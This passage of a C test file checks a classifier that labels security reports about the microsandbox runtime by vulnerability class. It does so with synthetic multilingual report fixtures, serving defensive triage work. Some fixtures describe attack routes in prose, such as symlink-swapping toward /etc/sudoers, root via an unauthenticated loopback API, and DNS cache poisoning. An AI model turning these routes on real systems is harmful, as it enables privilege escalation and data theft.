	  "internal network.  Whatever another org runs there without authentication is open to other\n"
	  "customers' sandboxes.",
	  "isolation_bypass", "cloud" },
	{ "Network test between two accounts",
	  "In the microsandbox cloud, sandboxes of two accounts cannot reach each other; the connection\n"
	  "to my second account's sandbox times out.  Is that guaranteed, or should we add a firewall?",
	  NULL, "cloud" },
	/* (class4, #3) whoever restores a snapshot getting what its maker
	 * put or did in it is the snapshot path carrying the data, a token
	 * included; a token printed in a log (above) stays secret_leakage */
	{ "Instructor's API token exposed to every student",
	  "Each sandbox cloned from the shared snapshot comes up with the author's bash history, so\n"
	  "every team can read the API token she exported while building it.",
	  "snapshot_leak", "core" },
	/* (class4, #3) a group's members said to be root, or coming to own
	 * the host's guarded files, is host privilege escalation, however a
	 * symlink the root daemon follows carries it; "group=root" in a
	 * listing is no such claim */
	{ "msb-netd hook follows symlinks (netdev group -> root)",
	  "msb-netd copies the hook file from the host directory by path and follows symlinks; a member\n"
	  "of the netdev group swaps it for a link, after which /etc/sudoers is now owned by that user.",
	  "privilege_escalation", "core" },
	{ "Where is the config file",
	  "The package puts msb.toml in /etc/msb with owner=root group=root and mode 0644.  Should a\n"
	  "normal user copy it to ~/.config?",
	  NULL, "core" },
	/* (fix4-class, #3) a root service's API that answers only on the
	 * machine itself with no check: a local account becoming root is
	 * privilege escalation, not the cloud's authorization; an
	 * unauthenticated cloud API reached from anywhere stays
	 * control_plane_auth, and a guessed class ("escape?") weighs less
	 * than what the evidence shows (one sandbox reading another's files) */
	{ "Daemon API unauthenticated on loopback gives any account host root",
	  "The msbd API is bound to localhost port 7070 and has no auth at all, yet the daemon runs as\n"
	  "root. Any local user POSTs a sandbox with the host's /etc mounted and gains root on the host\n"
	  "by adding a file under /etc/sudoers.d.",
	  "privilege_escalation", "core" },
	{ "Cloud API unauthenticated: delete any organisation's sandboxes",
	  "The public endpoint /api/v1/sandboxes/{id} accepts DELETE without any authentication, so\n"
	  "anyone on the internet can remove sandboxes that belong to other organisations.",
	  "control_plane_auth", "cloud" },
	{ "msb-fsd of one sandbox opens another sandbox's files (sandbox escape?)",
	  "After two parallel creates, the upper directory of sandbox nb-7 is a symlink to the upper\n"
	  "directory of nb-8.\nSo one sandbox sees and writes another sandbox's files, the notebook\n"
	  "tokens of the other user included.",
	  "isolation_bypass", "core" },
	{ "msb-fsd of one sandbox opens another sandbox's files (sandbox escape)",
	  "After two parallel creates, the upper directory of sandbox nb-7 is a symlink to the upper\n"
	  "directory of nb-8.\nSo one sandbox sees and writes another sandbox's files, the notebook\n"
	  "tokens of the other user included.",
	  "sandbox_escape", "core" },
	/* (#3, 3330) msbd's system mode and other users' sandboxes reached
	 * through exec: the host's users kept apart, not an API's owner check;
	 * the cloud's owner check stays the control plane's */
	{ "msbd system mode: exec into other users' sandboxes",
	  "our group's build box runs msbd in system mode and everyone in the lab is in the msb group. "
	  "msb ls only shows my own sandboxes, but exec and logs don't check the owner at all, only the name, "
	  "so anyone in the group can run commands as root inside another person's sandbox and read its "
	  "--secret values.",
	  "isolation_bypass", "core" },
	/* (#3, 3342) export URLs that stay valid after their maker left the
	 * org: the removal not enforced, over the snapshot they hand out */
	{ "Cloud API: viewer keys get snapshot export URLs",
	  "The pre-signed URLs stay valid for their whole 7-day lifetime even after the snapshot is deleted and "
	  "after the member who created the export has been removed from the org. An offboarded employee who kept "
	  "a URL keeps the snapshot's contents, and a snapshot includes the guest memory with the --secret values.",
	  "control_plane_auth", "cloud" },
	/* (#3, 3356) Turkish: the allowlist got past, out of the sandbox */
	{ "msb-netd: idna 0.5.0",
	  "--net-allow-host kuralları idna ile normalize ediliyorsa, bir saldırgan \"xn--\" etiketli bir alan "
	  "adıyla izin listesini atlatıp sandbox'tan dışarı veri çıkarabilir diye düşünüyorum.",
	  "network_bypass", "core" },
	{ "cloud API: exec into other users' sandboxes",
	  "The exec endpoint of the cloud API doesn't check the owner at all, only the sandbox name, so any "
	  "API key can run commands in sandboxes of other organisations.",
	  "control_plane_auth", "cloud" },
};

static void
test_classes(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(class_cases); i++) {
		const ClassCase *c = &class_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, TRUE);
		/* a near miss is one for the patterns: the word model may still
		 * guess once a description and a PoC are assumed, as here, but
		 * not when the message is analysed as it is (a question has none) */
		if (c->klass == NULL && g_strcmp0(a->class_source, "words") == 0) {
			g_autofree char *mail = g_strdup_printf(
				"From: r@example.org\nTo: security@superrad.company\nSubject: %s\n"
				"Content-Type: text/plain; charset=utf-8\n\n%s\n", c->subject, c->body);
			g_autoptr(StAnalysis) real = tu_analysis_of(mail);
			st_extract(rules, real->msg, NULL, real);
			st_classify(rules, real->msg, NULL, real);
			if (real->klass != NULL)
				g_error("\"%s\": want class null, got %s (%s)", c->subject, real->klass,
					real->class_evidence ? real->class_evidence : "");
			g_clear_pointer(&a->klass, g_free);
		}
		if (g_strcmp0(a->klass, c->klass) != 0 || g_strcmp0(a->component, c->component) != 0)
			g_error("\"%s\": want class %s component %s, got %s (%s) / %s (%s)", c->subject,
				c->klass ? c->klass : "null", c->component, a->klass ? a->klass : "null",
				a->class_evidence ? a->class_evidence : "", a->component,
				a->component_evidence ? a->component_evidence : "");
		if (c->klass != NULL)
			g_assert_nonnull(a->class_evidence);
		if (c->component != NULL)  /* none: a website's (no_component) */
			g_assert_nonnull(a->component_evidence);
	}
}

/* Cases the word model would guess anyway once a description and a PoC
 * are assumed: the class must come from a pattern (class_source
 * "patterns"), since the message as sent may have neither. */
static const ClassCase pattern_cases[] = {
	/* (#3, 3904) two students' names merged into one sandbox, in Spanish */
	{ "Veo los archivos de otra persona en mi cuaderno",
	  "Desde la 0.12.7 el SDK normaliza el nombre sin avisar. As\u00ed \"Ana.Rojas\" y \"ana_rojas\" terminan en el "
	  "mismo sandbox, nb-ana-rojas, y get_or_create devuelve el sandbox que ya existe, el de la otra persona, "
	  "con sus archivos.", "isolation_bypass", "core" },
	/* (#3, 4013) "a sandbox's escape to the host", in Portuguese */
	{ "Inje\u00e7\u00e3o de entradas no /etc/hosts do anfitri\u00e3o a partir do hostname do convidado",
	  "O msbd n\u00e3o valida esse nome: aceita quebras de linha. O root dentro do convidado consegue acrescentar "
	  "linhas arbitr\u00e1rias ao /etc/hosts do anfitri\u00e3o. Para n\u00f3s isto \u00e9 uma fuga da sandbox "
	  "para o anfitri\u00e3o: o convidado escreve num ficheiro do anfitri\u00e3o.", "sandbox_escape", "core" },
	/* (#3, 3985) a DNS forwarder's cache poisoned: the network's egress
	 * policy, no release of ours */
	{ "msb-netd DNS forwarder uses sequential transaction IDs (possible cache poisoning / allowlist bypass)",
	  "msb-netd forwards the guest's DNS queries from one fixed source port with transaction IDs that go up "
	  "by one, so an attacker could race the answer and get an allowlisted name resolved to their own address, "
	  "which the sandbox may then reach despite the allowlist.", "network_bypass", "core" },
	/* (#3, 3881) one user seeding msbd's layer cache that other users'
	 * sandboxes run from: isolation in the daemon, not a supply chain */
	{ "msbd layer cache trusts the diff_id from the image config (cross-user cache poisoning) - GHSA draft filed",
	  "msbd caches extracted image layers under the diff_id that the image config claims, and never hashes the "
	  "uncompressed layer. On a host shared by several users, anyone who can pull an image of their own can seed "
	  "the cache entry for a layer of a popular image with their own files, and every other user's sandbox "
	  "started from that image afterwards runs those files.", "isolation_bypass", "core" },
	/* (#3, 3808) the logs of a classmate's sandbox, read by the writer:
	 * one local user reaching another's, the password in them its impact */
	{ "Kann ich die Logs von anderen Studierenden sehen?",
	  "Heute wollte ich mit msb logs die Ausgabe meiner Sandbox anschauen und habe stattdessen die Logs der "
	  "Sandbox eines Kollegen bekommen, inklusive eines Datenbankpassworts.\n\n$ msb logs kathi-vs3\n"
	  "DB_PASSWORD=test-only\n", "isolation_bypass", "core" },
	/* (#3, 3803) pupils who see each other's files after a snapshot is
	 * restored for them, in Dutch: the restore path carries the files */
	{ "Leerlingen zien elkaars bestanden na herstellen van snapshot - beveiligingsprobleem?",
	  "Elke leerling krijgt een eigen sandbox die we herstellen vanaf een schone snapshot. In zijn lege "
	  "omgeving stonden bestanden van een andere leerling, met zijn GitHub-token.", "snapshot_leak", "core" },
	/* (#3, 3785) the gateway forwarded to the host without the deny rule
	 * being asked, a dictated report: the secrets read through it are
	 * the impact */
	{ "Sandbox can reach host localhost through the gateway with net default deny",
	  "It looks like msb-netd forwards the gateway address to 127.0.0.1 on the host without checking the deny "
	  "rule at all. On our build boxes the vault agent listens on localhost, so from inside an untrusted CI "
	  "job you get the agent's token and you can read every secret the build box can read.",
	  "network_bypass", "core" },
	/* (#3, 3698) the host process's environment copied into every sandbox
	 * names the leak alone; the repro's `network: "none"` is only how it
	 * was run */
	{ "Node SDK passes the whole host environment into sandboxes by default?",
	  "With the Node SDK, Sandbox.create() without an env option copies the entire process.env of the host\n"
	  "process into the sandbox.\n\n"
	  "const sb = await Sandbox.create({ image: \"node:22-alpine\", network: \"none\" });\n",
	  "secret_leakage", "node_sdk" },
	/* (#3, 3680) Korean: the proxy's account carried to the host a
	 * redirect leads to */
	{ "Node SDK follow-redirects",
	  "SDK\uac00 \ud074\ub77c\uc6b0\ub4dc API\ub97c \ud638\ucd9c\ud560 \ub54c \uc751\ub2f5\uc774 \ub2e4\ub978 "
	  "\ud638\uc2a4\ud2b8\ub85c \ub9ac\ub514\ub809\uc158\ub418\uba74 \ud504\ub85d\uc2dc \uacc4\uc815 "
	  "\uc815\ubcf4\uac00 \uadf8 \ud638\uc2a4\ud2b8\ub85c \ub118\uc5b4\uac08 \uc218 \uc788\uc2b5\ub2c8\ub2e4.",
	  "secret_leakage", "node_sdk" },
	/* (round 303) the key sent to a URL a planted file names */
	{ "",
	  "the microsandbox python sdk reads a .msbrc from whatever folder you run your script in, and if that file has\n"
	  "a server_url line it sends our MSB_API_KEY as the bearer header to that url instead of your cloud api.",
	  "secret_leakage", "python_sdk" },
	/* (3587) Slovak: sandbox disks holding the customer's secrets
	 * unencrypted */
	{ "Nález: nešifrované disky sandboxov",
	  "Na oddiele s Ubuntu zostali obrazy sandboxov microsandbox s nezašifrovanými tajomstvami zákazníka.",
	  "secret_leakage", "core" },
	/* (3591) a port published on the loopback that msb-netd also
	 * listens for on the IPv6 wildcard: open to the whole LAN */
	{ "jupyter reachable from the office",
	  "I publish a Jupyter server on loopback only with -p 127.0.0.1:8888:8888. On the host, msb-netd listens on\n"
	  "the IPv6 wildcard as well as on the address I asked for, so the port is open to everyone on the network.",
	  "network_bypass", "core" },
	/* (3650) Italian, dictated: a leak of the API key through a redirect */
	{ "Possibile fuga della chiave API nell'SDK Python (urllib3)",
	  "Il punto \u00e8 che l'SDK disattiva i redirect per non mandare l'header Authorization con la chiave API a un "
	  "altro host. Quindi con urllib3 2.4.0 la chiave potrebbe finire l\u00ec.",
	  "secret_leakage", "python_sdk" },
	/* (3651) German: one tenant's exec lands in another's sandbox */
	{ "Node-SDK vermischt Mandanten",
	  "Holt Mandant B einen Handle mit demselben Namen, bekommt B den Handle von A zur\u00fcck. exec() von B l\u00e4uft "
	  "dann in der Sandbox von A: B sieht A's Dateien und kann dort Code ausf\u00fchren.",
	  "isolation_bypass", "node_sdk" },
	/* (3586) Finnish: "data leak: msb snapshot export leaves ..." */
	{ "Tietovuoto: msb snapshot export j\u00e4tt\u00e4\u00e4 levysis\u00e4ll\u00f6n luettavaksi /tmp:hen",
	  "Kuka tahansa saman palvelimen k\u00e4ytt\u00e4j\u00e4 voi lukea toisen k\u00e4ytt\u00e4j\u00e4n "
	  "hiekkalaatikon sis\u00e4ll\u00f6n viennin aikana.",
	  "snapshot_leak", "core" },
};

static void
test_classes_by_pattern(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(pattern_cases); i++) {
		const ClassCase *c = &pattern_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, TRUE);
		if (g_strcmp0(a->klass, c->klass) != 0 || g_strcmp0(a->class_source, "patterns") != 0 ||
		    g_strcmp0(a->component, c->component) != 0)
			g_error("case %zu: want class %s by patterns, component %s; got %s (%s) / %s", i, c->klass,
				c->component, a->klass ? a->klass : "null", a->class_source ? a->class_source : "-",
				a->component);
	}
}

/* [classify] class_needs: a subject naming a class over a message with no
 * description, PoC or logs gets no class; the same text with a PoC does. */
static void
test_class_needs_content(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *subject = "Press inquiry: sandbox escapes in AI agent runtimes";
	const char *body = "Has microsandbox ever had a sandbox escape reported?";
	g_autoptr(StAnalysis) a = classify(rules, subject, body, FALSE);

	g_assert_cmpstr(a->klass, ==, "sandbox_escape");
	a->check[ST_CHECK_DESCRIPTION] = FALSE;
	st_classify(rules, a->msg, NULL, a);
	g_assert_null(a->klass);
	a->check[ST_CHECK_LOGS] = TRUE;
	st_classify(rules, a->msg, NULL, a);
	g_assert_cmpstr(a->klass, ==, "sandbox_escape");
}


int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	st_init();
	g_test_add_func("/classify/classes", test_classes);
	g_test_add_func("/classify/classes-by-pattern", test_classes_by_pattern);
	g_test_add_func("/classify/class-needs-content", test_class_needs_content);
	return g_test_run();
}
